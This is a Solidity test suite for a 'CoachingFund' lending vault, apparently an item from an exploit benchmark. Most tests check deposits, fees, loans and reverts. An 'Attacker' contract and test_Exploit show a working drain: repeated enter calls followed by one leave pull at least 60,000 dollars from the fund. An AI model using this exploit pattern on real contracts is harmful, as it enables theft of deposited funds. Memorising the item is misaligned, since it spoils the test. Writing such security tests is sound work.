// SPDX-License-Identifier: GPL-2.0-or-later
pragma solidity 0.8.24;

// assay-canary-017d7bcc-bb85-46f6-9abb-b8f90c50adf8

import "./CoachingFund.sol";

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Dollar is ERC20 {
    constructor() ERC20("Dollar", "USD") {
        _mint(msg.sender, 1_000_000e6);
    }

    function decimals() public pure override returns (uint8) {
        return 6;
    }
}

/// An account with nothing at all.
contract Attacker {
    function visit(CoachingFund fund) external {
        for (uint256 i; i < 24; i++) {
            fund.enter(address(this));
        }
        fund.leave(fund.balanceOf(address(this)), address(this));
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant GUILD = address(0x6111D);
    address private constant STEWARD = address(0x57E3A4D);
    address private constant ANNA = address(0xA22A);
    address private constant BELA = address(0xBE1A);
    address private constant INN = address(0x122);

    Dollar public dollar;
    Treasury public treasury;
    CoachingFund public fund;
    Attacker public visitor;

    function setUp() public {
        dollar = new Dollar();
        treasury = new Treasury(GUILD);
        fund = new CoachingFund(dollar, treasury, STEWARD);
        _enter(ANNA, 100_000e6);
        _enter(BELA, 250_000e6);
        vm.prank(BELA);
        fund.leave(250_000e6, BELA);
        visitor = new Attacker();
    }

    function _enter(address who, uint256 coins) private returns (uint256) {
        dollar.transfer(address(fund), coins);
        return fund.enter(who);
    }

    function test_Regular() public {
        require(dollar.balanceOf(BELA) == 245_000e6 && fund.charges() == 5_000e6, "charged");
        require(fund.reserve() == 100_000e6 && fund.worth() == 100_000e6 && fund.unaccounted() == 0, "reserve");
        require(fund.payCharges() == 5_000e6 && dollar.balanceOf(address(treasury)) == 5_000e6, "paid");
        vm.prank(GUILD);
        treasury.spend(dollar, GUILD, 1_000e6);
        vm.prank(STEWARD);
        fund.lend(INN, 60_000e6);
        require(fund.reserve() == 40_000e6 && fund.worth() == 100_000e6 && fund.lentTo(INN) == 60_000e6, "lent");
        require(_enter(BELA, 20_000e6) == 20_000e6, "same price");
        dollar.transfer(INN, 12_000e6);
        vm.startPrank(INN);
        dollar.approve(address(fund), type(uint256).max);
        fund.giveBack(12_000e6);
        vm.stopPrank();
        require(fund.worth() == 132_000e6 && fund.lent() == 0, "with interest");
        vm.startPrank(ANNA);
        fund.transfer(BELA, 10_000e6);
        require(fund.leave(40_000e6, ANNA) == 43_120e6, "a tenth more, less the charge");
        fund.approve(BELA, 50_000e6);
        vm.stopPrank();
        vm.prank(BELA);
        fund.transferFrom(ANNA, BELA, 50_000e6);
        require(fund.payCharges() == 880e6, "paid again");
        dollar.transfer(address(fund), 7e6);
        require(fund.unaccounted() == 7e6, "not entered");
        vm.prank(STEWARD);
        require(fund.reclaim(STEWARD) == 7e6 && dollar.balanceOf(STEWARD) == 7e6, "taken out");
        vm.prank(BELA);
        require(fund.leave(80_000e6, BELA) == 86_240e6 && fund.totalSupply() == 0 && fund.worth() == 0, "all out");
    }

    function test_RefusesAmounts() public {
        fund.payCharges();
        dollar.transfer(address(fund), 1e6 - 1);
        vm.expectRevert(abi.encodeWithSelector(CoachingFund.TooFewCoins.selector, 1e6 - 1, 1e6));
        fund.enter(ANNA);
        vm.prank(ANNA);
        vm.expectRevert(abi.encodeWithSelector(CoachingFund.TooFewCoins.selector, 1e6 - 2, 1e6));
        fund.leave(1e6 - 2, ANNA);
    }

    function test_RefusesLoans() public {
        vm.prank(ANNA);
        vm.expectRevert(abi.encodeWithSelector(CoachingFund.NotSteward.selector, ANNA));
        fund.lend(ANNA, 1e6);
        vm.prank(ANNA);
        vm.expectRevert(abi.encodeWithSelector(CoachingFund.NotSteward.selector, ANNA));
        fund.reclaim(ANNA);
        vm.prank(STEWARD);
        vm.expectRevert(abi.encodeWithSelector(CoachingFund.TooManyCoins.selector, 100_000e6 + 1, 100_000e6));
        fund.lend(INN, 100_000e6 + 1);
        vm.prank(INN);
        vm.expectRevert(abi.encodeWithSelector(CoachingFund.NothingLent.selector, INN));
        fund.giveBack(0);
        vm.prank(ANNA);
        vm.expectRevert(abi.encodeWithSelector(Treasury.NotGuild.selector, ANNA));
        treasury.spend(dollar, ANNA, 0);
    }

    function test_RefusesLeavingWithLoans() public {
        vm.prank(STEWARD);
        fund.lend(INN, 2_000e6);
        vm.prank(ANNA);
        vm.expectRevert(abi.encodeWithSelector(CoachingFund.TooManyCoins.selector, 100_000e6, 98_000e6));
        fund.leave(100_000e6, ANNA);
    }

    function test_RefusesSetups() public {
        vm.expectRevert(abi.encodeWithSelector(CoachingFund.ZeroAddress.selector));
        new CoachingFund(IERC20(address(0)), treasury, STEWARD);
        vm.expectRevert(abi.encodeWithSelector(CoachingFund.ZeroAddress.selector));
        new CoachingFund(dollar, Treasury(address(0)), STEWARD);
    }

    function exploit() public {
        visitor.visit(fund);
    }

    function test_Exploit() public {
        exploit();
        require(dollar.balanceOf(address(visitor)) >= 60_000e6, "no gain");
    }

    function target() public view returns (address) {
        return address(fund);
    }

    function attacker() public view returns (address) {
        return address(visitor);
    }
}
